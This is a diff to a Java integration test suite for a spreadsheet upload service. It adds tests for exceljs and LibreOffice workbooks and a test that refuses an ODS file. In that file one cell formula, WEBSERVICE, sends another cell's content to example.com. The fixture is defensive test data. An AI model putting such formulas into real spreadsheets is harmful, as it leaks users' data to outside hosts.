@@ -33,7 +33,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 
 /**
- * POST /api/files and import_file with workbooks written by other writers (openpyxl, LibreOffice):
+ * POST /api/files and import_file with workbooks written by other writers (openpyxl, LibreOffice, exceljs):
  * what is stored is the file itself, part by part, read back with openpyxl and raw XML; what
  * reaches outside the workbook is refused naming each cell; csv and ods are converted.
  */
@@ -211,6 +211,121 @@ class UploadsIT {
                 .isEqualTo("=B2*C2 =SUM(D2:D3)");
     }
 
+    /** exceljs (npm), a third writer: formulas, a styled header, a width, a merge, a validation, a note. */
+    static final String EXCELJS_BOOK = """
+            const ExcelJS = require('exceljs');
+            (async () => {
+              const wb = new ExcelJS.Workbook();
+              const ws = wb.addWorksheet('Sales');
+              ws.getColumn(1).width = 30;
+              ws.addRow(['Item', 'Qty', 'Price', 'Total']);
+              ws.getRow(1).font = { bold: true, color: { argb: 'FFFF0000' } };
+              ws.addRow(['Apples', 3, 1.5, { formula: 'B2*C2', result: 4.5 }]);
+              ws.addRow(['Pears', 2, 2.25, { formula: 'B3*C3', result: 4.5 }]);
+              ws.addRow(['Total', null, null, { formula: 'SUM(D2:D3)', result: 9 }]);
+              ws.mergeCells('A6:D6');
+              ws.getCell('A6').value = 'Prices as of March';
+              ws.getCell('B2').dataValidation = { type: 'whole', operator: 'between', allowBlank: true,
+                showErrorMessage: true, formulae: [0, 100] };
+              ws.getCell('A2').note = 'Fresh from the orchard';
+              await wb.xlsx.writeFile(process.argv[2]);
+            })().catch(e => { console.error(e); process.exit(1); });
+            """;
+
+    @Test
+    void anExceljsWorkbookIsStoredPartByPart() throws Exception {
+        byte[] book = exceljs(EXCELJS_BOOK);
+        HttpResponse<String> response = multipart(Map.of("sales.xlsx", book));
+        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
+        JsonNode record = McpHttp.JSON.readTree(response.body()).path("files").get(0);
+        byte[] stored = http.download(record.path("downloadUrl").asText()).body();
+        assertThat(stored).isEqualTo(book);
+        Map<String, byte[]> parts = assertSamePartByPart(book, stored);
+        String sheet = entry(stored, "xl/worksheets/sheet1.xml");
+        assertThat(sheet).contains("<f>B2*C2</f>").contains("<f>SUM(D2:D3)</f>").contains("<mergeCell ref=\"A6:D6\"")
+                .contains("<dataValidation").contains("width=\"30\"");
+        assertThat(parts.keySet()).anyMatch(name -> name.startsWith("xl/comments"));
+        assertThat(readBack(stored, "ws=wb['Sales']; print(ws['D2'].value, ws['D4'].value, ws['A1'].font.b,"
+                + " ws['A1'].font.color.rgb, ws.column_dimensions['A'].width, ws.merged_cells.ranges[0].coord,"
+                + " ws['A2'].comment.text, ws.data_validations.dataValidation[0].sqref)"))
+                .isEqualTo("=B2*C2 =SUM(D2:D3) True FFFF0000 30.0 A6:D6 Fresh from the orchard B2");
+    }
+
+    @Test
+    void anOdsFromLibreOfficeKeepsItsFormulas() throws Exception {
+        String soffice = soffice();
+        Path work = Files.createTempDirectory(DATA, "ods");
+        Path xlsx = work.resolve("formulas.xlsx");
+        Files.write(xlsx, openpyxl("""
+                import sys
+                from openpyxl import Workbook
+                wb = Workbook()
+                ws = wb.active
+                ws.title = "Data"
+                ws.append(["Item", "Qty", "Price", "Total"])
+                ws.append(["Apples", 3, 1.5, "=B2*C2"])
+                ws.append(["Pears", 2, 2.25, "=B3*C3"])
+                ws.append(["Total", None, None, "=SUM(D2:D3)"])
+                ws.append(["Check", None, None, '=IF(D4>5,"big","small")'])
+                other = wb.create_sheet("Other sheet")
+                other.append(["Twice", "=Data!D4*2"])
+                wb.save(sys.argv[1])
+                """));
+        Process p = new ProcessBuilder(soffice, "-env:UserInstallation=" + work.resolve("profile").toUri(),
+                "--headless", "--norestore", "--convert-to", "ods", "--outdir", work.toString(), xlsx.toString())
+                .redirectErrorStream(true).start();
+        String log = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+        assertThat(p.waitFor(180, TimeUnit.SECONDS)).as(log).isTrue();
+        byte[] ods = Files.readAllBytes(work.resolve("formulas.ods"));
+        // LibreOffice wrote OpenFormula, which the plugin turns into Excel's syntax
+        assertThat(entry(ods, "content.xml")).contains("of:=[.B2]*[.C2]").contains("of:=SUM([.D2:.D3])");
+        HttpResponse<String> response = multipart(Map.of("formulas.ods", ods));
+        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
+        JsonNode record = McpHttp.JSON.readTree(response.body()).path("files").get(0);
+        assertThat(record.path("name").asText()).isEqualTo("formulas.xlsx");
+        byte[] stored = http.download(record.path("downloadUrl").asText()).body();
+        try (var wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new ByteArrayInputStream(stored))) {
+            var data = wb.getSheet("Data");
+            assertThat(data.getRow(1).getCell(3).getCellFormula()).isEqualTo("B2*C2");
+            assertThat(data.getRow(1).getCell(3).getNumericCellValue()).isEqualTo(4.5);
+            assertThat(data.getRow(3).getCell(3).getCellFormula()).isEqualTo("SUM(D2:D3)");
+            assertThat(data.getRow(3).getCell(3).getNumericCellValue()).isEqualTo(9.0);
+            assertThat(data.getRow(4).getCell(3).getCellFormula()).isEqualTo("IF(D4>5,\"big\",\"small\")");
+            assertThat(data.getRow(4).getCell(3).getStringCellValue()).isEqualTo("big");
+            var other = wb.getSheet("Other sheet");
+            assertThat(other.getRow(0).getCell(1).getCellFormula()).isEqualTo("Data!D4*2");
+            assertThat(other.getRow(0).getCell(1).getNumericCellValue()).isEqualTo(18.0);
+        }
+        // raw XML, a second reader: the formula and its saved value are in the sheet part
+        assertThat(entry(stored, "xl/worksheets/sheet1.xml")).contains("<f>SUM(D2:D3)</f><v>9");
+    }
+
+    @Test
+    void anOdsFormulaThatReachesOutsideIsRefusedNamingItsCell() throws Exception {
+        String content = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:"
+                + "names:tc:opendocument:xmlns:office:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
+                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.3\"><office:body>"
+                + "<office:spreadsheet><table:table table:name=\"Data\"><table:table-row><table:table-cell"
+                + " office:value-type=\"string\"><text:p>q</text:p></table:table-cell><table:table-cell"
+                + " office:value-type=\"string\"><text:p>answer</text:p></table:table-cell></table:table-row>"
+                + "<table:table-row><table:table-cell office:value-type=\"string\"><text:p>x</text:p></table:table-cell>"
+                + "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;https://example.com/?q=&quot;&amp;[.A2])\""
+                + " office:value-type=\"string\" office:string-value=\"\"/></table:table-row></table:table>"
+                + "</office:spreadsheet></office:body></office:document-content>";
+        ByteArrayOutputStream ods = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(ods)) {
+            zip.putNextEntry(new ZipEntry("mimetype"));
+            zip.write("application/vnd.oasis.opendocument.spreadsheet".getBytes(StandardCharsets.US_ASCII));
+            zip.putNextEntry(new ZipEntry("content.xml"));
+            zip.write(content.getBytes(StandardCharsets.UTF_8));
+        }
+        List<String> before = storedFiles();
+        HttpResponse<String> response = multipart(Map.of("outside.ods", ods.toByteArray()));
+        assertThat(response.statusCode()).isEqualTo(400);
+        assertThat(response.body()).contains("sheet 'Data', cell B2").contains("WEBSERVICE");
+        assertThat(storedFiles()).isEqualTo(before);
+    }
+
     @Test
     void macrosAreKeptInertInAnXlsm() throws Exception {
         byte[] xlsm = withMacros(openpyxl(ISSUE_BOOK));
@@ -247,13 +362,13 @@ class UploadsIT {
                 ws["E5"].hyperlink = "file://server/share/x.xlsx"
                 wb.save(sys.argv[1])
                 """);
-        String before = http.callTool(session, "list_files", Map.of()).toString();
+        List<String> before = storedFiles();
         HttpResponse<String> response = multipart(Map.of("outside.xlsx", book));
         assertThat(response.statusCode()).isEqualTo(400);
         assertThat(response.body()).contains("sheet 'Data', cell B2").contains("WEBSERVICE")
                 .contains("sheet 'Data', cell C3").contains("sheet 'Data', cell E5").doesNotContain("cell D4")
                 .contains("nothing was stored");
-        assertThat(http.callTool(session, "list_files", Map.of()).toString()).isEqualTo(before);
+        assertThat(storedFiles()).isEqualTo(before);
     }
 
     @Test
@@ -405,6 +520,18 @@ class UploadsIT {
                 HttpResponse.BodyHandlers.ofString());
     }
 
+    /**
+     * Each stored file's id, revision and sha256 as list_files gives them: its download links carry
+     * an expiry that moves with the clock, so the whole answer is not compared.
+     */
+    List<String> storedFiles() throws Exception {
+        List<String> files = new java.util.ArrayList<>();
+        for (JsonNode f : http.callTool(session, "list_files", Map.of()).path("structuredContent").path("files")) {
+            files.add(f.path("fileId").asText() + " r" + f.path("revision").asText() + " " + f.path("sha256").asText());
+        }
+        return files;
+    }
+
     /** The zip entries of both, which must be the same names with the same bytes; returns them. */
     static Map<String, byte[]> assertSamePartByPart(byte[] uploaded, byte[] stored) throws IOException {
         Map<String, byte[]> in = entries(uploaded);
@@ -493,6 +620,35 @@ class UploadsIT {
         if (!p.waitFor(30, TimeUnit.SECONDS) || p.exitValue() != 0) {
             fail("Debian's python3-openpyxl is needed (apt-get install python3-openpyxl; .ci/run installs it)");
         }
+    }
+
+    /**
+     * Runs a Node script with exceljs (from SHEETSMITH_EXCELJS, a folder holding node_modules/exceljs,
+     * as .ci/run installs it) that writes a workbook to argv[2]; returns its bytes.
+     */
+    static byte[] exceljs(String script) throws IOException, InterruptedException {
+        Path folder = Path.of(System.getenv().getOrDefault("SHEETSMITH_EXCELJS",
+                System.getProperty("user.home") + "/.cache/sheetsmith-tools"));
+        if (!Files.isDirectory(folder.resolve("node_modules/exceljs"))) {
+            String missing = "exceljs is not in " + folder + "/node_modules (set SHEETSMITH_EXCELJS to a folder where"
+                    + " `npm install --prefix <folder> exceljs@4.4.0` ran; .ci/run does)";
+            if ("1".equals(System.getenv("SHEETSMITH_REQUIRE_EXCELJS")) || "true".equals(System.getenv("CI"))) {
+                fail(missing);
+            }
+            Assumptions.abort(missing + "; its upload check is skipped");
+        }
+        Path dir = Files.createTempDirectory(DATA, "js");
+        Path js = dir.resolve("book.cjs");
+        Files.writeString(js, script);
+        Path out = dir.resolve("book.xlsx");
+        ProcessBuilder builder = new ProcessBuilder("node", js.toString(), out.toString()).redirectErrorStream(true);
+        builder.environment().put("NODE_PATH", folder.resolve("node_modules").toString());
+        Process p = builder.start();
+        String output = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+        if (!p.waitFor(60, TimeUnit.SECONDS) || p.exitValue() != 0) {
+            fail("node with exceljs failed: " + output);
+        }
+        return Files.readAllBytes(out);
     }
 
     static String soffice() {
